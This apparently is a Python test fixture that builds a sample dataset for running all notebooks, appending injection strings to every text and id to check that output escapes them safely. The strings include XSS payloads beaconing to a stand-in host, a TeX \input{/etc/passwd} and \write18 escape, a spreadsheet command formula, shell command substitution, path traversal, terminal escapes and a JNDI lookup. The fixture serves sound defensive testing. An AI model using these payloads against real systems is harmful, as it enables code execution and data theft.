"""A short run of all notebooks: a twentieth of the corpus, few epochs; every cell runs, nothing is learned.

Each text and each id of its pairs is an attack: on a browser, TeX, a spreadsheet, a shell, a path or a terminal.
"""

import csv
from itertools import cycle
from pathlib import Path

import pandas

ROOT = Path(__file__).parents[1]
BEACON = "http://attack.invalid/"
SCRIPT = f"window.hit=1;document.title='hit';new Image().src='{BEACON}'"
# colours the rest of a terminal, takes back a letter, a line, and turns the direction of reading
CONTROL = "\x1b[31m\x08\r\u202e"
MARKUP = [
    f"<script>{SCRIPT}</script>",
    f'<img src="{BEACON}a.png" onerror="{SCRIPT}">',
    f'"><svg onload="{SCRIPT}">',
    f"</td></tr></table></div></section><iframe src='{BEACON}'></iframe>",
    f"<style>*{{display:none}}@import '{BEACON}a.css'</style>",
    f"<link rel=stylesheet href={BEACON}a.css><base href={BEACON}>",
    f"<meta http-equiv=refresh content='0;url={BEACON}'>",
    f'<a href="javascript:{SCRIPT}">x</a>',
]
ATTACKS = [
    *MARKUP,
    f"' onmouseover='{SCRIPT}' x='",
    f"![x]({BEACON}a.png) [y](javascript:alert(1)) <{BEACON}>",
    r"$\href{javascript:alert(1)}{x}$ $$\require{html}\style{position:fixed}{x}$$ \(x\)",
    r"\input{/etc/passwd} \write18{touch hit} \end{tabular} % _ & # ^ ~",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd;=1+1",
    "../../hit",
    "$(touch hit); `touch hit` | touch hit && touch hit",
    "\x1b[2J\x1b]0;hit\x07\x1b[31mred\x9b2J\u202egnol\u2066\u200b",
    "{{7*7}} {0.__class__} %s ${jndi:ldap://attack.invalid}",
]
SHORT = {"epochs": "2", "seeds": "[0, 1]", "sample": "150", "growth": "0.3", "batch_size": "64"}
# what notebook 5 declares of these
OF_ONE = ("epochs", "seeds", "growth", "batch_size")


def write_part(place: Path) -> None:
    """The pairs of the run, `part.csv`."""
    part = pandas.read_csv(ROOT / "data" / "corpus.csv", dtype=str).iloc[::20]
    attacks = [f" {attack}{CONTROL}" for attack, _ in zip(cycle(ATTACKS), range(len(part)), strict=False)]
    part = part.assign(description=part["description"] + attacks, id=part["id"] + attacks)
    part.to_csv(place / "part.csv", index=False, quoting=csv.QUOTE_ALL)


def all_notebooks(results: Path) -> list[str]:
    """The command's words for all notebooks; `results` is a paper.json."""
    return ["run", "--pairs", "part.csv", *_options(*SHORT), "-p", "results", str(results)]


def one_notebook() -> list[str]:
    """The command's words for notebook 5 with the same settings."""
    return ["run", "5", "--pairs", "part.csv", *_options(*OF_ONE)]


def _options(*names: str) -> list[str]:
    return [part for name in names for part in ("-p", f"{name}", SHORT[name])]
